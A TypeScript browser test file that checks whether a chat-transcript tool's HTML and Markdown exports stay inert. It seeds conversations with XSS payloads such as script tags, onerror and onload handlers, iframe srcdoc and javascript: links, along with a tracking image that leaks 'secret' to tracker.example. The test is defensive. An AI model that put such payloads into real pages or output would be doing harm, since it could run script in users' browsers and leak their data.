/**
 * An HTML export opened in real Chromium runs, loads and follows nothing, and shows model text as
 * text; so does a Markdown export shown by a Markdown viewer.
 */
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import MarkdownIt from 'markdown-it';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { journalEvent } from '../../common/events.js';
import { HOSTILE_MARKDOWN, hostileEvents } from '../support/hostile.js';
import { seedConversation } from '../support/seed.js';
import { tempDir } from '../support/temp.js';
import { ward } from '../support/ward-cli.js';
import { launchChromium, screenshot } from './harness/harness.js';
import { HOSTILE } from './harness/hostile.js';

let browser: Browser | undefined;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

/** Everything that can load, link, run or lay out a table: none of it may come from a transcript's content. */
const ACTIVE_ELEMENTS = 'a, img, script, iframe, frame, object, embed, link, form, svg, video, audio, picture, source, table, h2, base, meta[http-equiv="refresh"]';

/** Every request the page makes from now on. */
function requestsOf(page: Page): string[] {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  return requests;
}

describe('an HTML transcript', () => {
  it('test_hostile_answers_prompts_tools_and_title_execute_nothing_load_nothing_and_read_as_text', async () => {
    const home = tempDir();
    const { core, store, conversation } = seedConversation(home);
    store.db.prepare('UPDATE conversations SET title = ? WHERE id = ?').run('<script>window.__pwned = 9</script>Trip', conversation.id);
    const runId = '00000000-0000-4000-8000-000000000001';
    store.journal.appendMany(
      conversation.id,
      [
        journalEvent('user_prompt', { text: 'Show me <img src=x onerror="window.__pwned = 5">' }),
        journalEvent('assistant_text', { text: HOSTILE }),
        journalEvent('tool_call', { toolUseId: 't1', tool: '<svg onload="window.__pwned=6">', arguments: { html: '<iframe srcdoc="<script>parent.__pwned=7</script>">' } }),
        journalEvent('tool_result', { toolUseId: 't1', tool: 'fetch', ok: true, bytes: 40, durationMs: 3, errorCode: null, preview: '<link rel=stylesheet href="https://example.com/x.css"><style>@import url(https://example.com/y.css)</style>', previewTruncated: false }),
        journalEvent('run_finished', { state: 'failed', reason: '<a href="https://example.com">reason</a>' }),
      ].map((event) => ({ ...event, runId })),
    );
    core.close();
    const file = path.join(tempDir(), 'chat.html');
    const exported = await ward(['export', conversation.id, '--format', 'html', '--out', file], { env: { WARD_HOME: home, DBUS_SESSION_BUS_ADDRESS: process.env.DBUS_SESSION_BUS_ADDRESS } });
    expect(exported).toMatchObject({ code: 0, stderr: '' });

    const page = await browser!.newPage();
    const requests: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const url = pathToFileURL(file).href;
    await page.goto(url);
    await page.getByText('Plain **bold**').waitFor();
    await screenshot(page, 'export-html');

    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(requests).toEqual([url]);
    expect(dialogs).toEqual([]);
    expect(await page.locator('script, img, iframe, svg, link, object, embed, a, form, style:not(head style)').count()).toBe(0);
    expect(await page.locator('head style').count()).toBe(1);
    expect(await page.evaluate(() => [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => attribute.name)).filter((name) => name.startsWith('on')))).toEqual([]);
    // The page's own policy forbids script whatever opens it.
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain("script-src 'none'");
    // What the model wrote is there to read, as text.
    const text = await page.locator('body').innerText();
    expect(text).toContain('<script>window.__pwned = 2</script><b>raw bold</b>');
    expect(text).toContain('[click me](javascript:window.__pwned=3)');
    expect(await page.title()).toBe('<script>window.__pwned = 9</script>Trip');
    await page.close();
  });

  it('test_tracking_images_links_and_markup_in_every_field_load_and_link_nothing_in_the_html_export_or_a_markdown_viewer', async () => {
    const home = tempDir();
    const { core, store, conversation } = seedConversation(home);
    store.db.prepare('UPDATE conversations SET title = ? WHERE id = ?').run(HOSTILE_MARKDOWN, conversation.id);
    // A run's end that says it was anchored needs this keychain's anchor key to export: not the point here.
    const unanchored = hostileEvents(HOSTILE_MARKDOWN).map((event) => (event.type === 'run_finished' ? { ...event, payload: { ...(event.payload as object), anchored: undefined } } : event));
    store.journal.appendMany(conversation.id, unanchored.map((event) => ({ ...event, runId: '00000000-0000-4000-8000-000000000001' })));
    core.close();
    const dir = tempDir();
    for (const format of ['html', 'markdown']) {
      const exported = await ward(['export', conversation.id, '--format', format, '--out', path.join(dir, `chat.${format}`)], { env: { WARD_HOME: home, DBUS_SESSION_BUS_ADDRESS: process.env.DBUS_SESSION_BUS_ADDRESS } });
      expect(exported).toMatchObject({ code: 0, stderr: '' });
    }

    const page = await browser!.newPage();
    const requests = requestsOf(page);
    const url = pathToFileURL(path.join(dir, 'chat.html')).href;
    await page.goto(url);
    expect(requests).toEqual([url]);
    expect(await page.locator(ACTIVE_ELEMENTS).count()).toBe(0);
    expect(await page.locator('h1').count()).toBe(1);
    expect(await page.locator('body').innerText()).toContain('![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) <https://tracker.example/auto>');
    expect(await page.title()).toContain('![](https://tracker.example/p.png?leak=secret)');
    await page.close();

    // The Markdown export as the most permissive viewer shows it: raw HTML on, bare URLs linked.
    const viewer = await browser!.newPage();
    const viewerRequests = requestsOf(viewer);
    await viewer.setContent(new MarkdownIt({ html: true, linkify: true }).render(fs.readFileSync(path.join(dir, 'chat.markdown'), 'utf8')));
    expect(viewerRequests).toEqual([]);
    expect(await viewer.locator(ACTIVE_ELEMENTS).count()).toBe(0);
    expect(await viewer.locator('h1').count()).toBe(1);
    expect(await viewer.locator('body').innerText()).toContain('![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) <https://tracker.example/auto>');
    await viewer.close();
  });
});
